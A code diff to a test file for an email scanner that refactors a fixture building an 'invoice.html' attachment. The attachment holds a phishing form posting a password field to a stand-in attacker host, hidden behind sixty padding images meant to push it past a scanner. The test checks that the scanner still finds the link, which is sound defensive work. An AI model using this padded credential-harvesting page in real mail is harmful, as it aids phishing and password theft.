@@ -9,6 +9,7 @@ import { decodeBase64Native, fastDecoders, joinChunks, useFastDecoders } from '.
 import path from 'node:path';
 import fc from 'fast-check';
 import { deepNestedMessage, garbage8bitMessage, malformedMimeMessage, manyPartsMessage } from '../helpers/messages.js';
+import { withAttachment } from '../helpers/mime.js';
 import { toCrlf } from '../helpers/smtp.js';
 
 const limits = buildConfig({}, { env: {} }).limits;
@@ -297,26 +298,7 @@ describe('links a sender hides from a scanner but a mail client shows', () => {
 
   it('reads the form and links of an HTML attachment behind padding (60 pixels once pushed them out)', async () => {
     const page = `${'<img src="https://px.example/p.gif">'.repeat(60)}<form action="https://evil.example/collect"><input type="password"></form>`;
-    const raw = toCrlf(
-      [
-        'From: a@example.com',
-        'To: b@example.org',
-        'MIME-Version: 1.0',
-        'Content-Type: multipart/mixed; boundary="b"',
-        '',
-        '--b',
-        'Content-Type: text/plain',
-        '',
-        'Your invoice is attached.',
-        '--b',
-        'Content-Type: text/html; name="invoice.html"',
-        'Content-Disposition: attachment; filename="invoice.html"',
-        '',
-        page,
-        '--b--',
-        '',
-      ].join('\n'),
-    );
+    const raw = toCrlf(withAttachment('invoice.html', Buffer.from(page), 'text/html'));
     const i = await extractScanInput(raw, env, limits);
     assert.deepEqual(i.attachments[0]?.links, ['https://evil.example/collect']);
     assert.ok(i.urls.some((u) => u.source === 'attachment' && u.host === 'evil.example'));
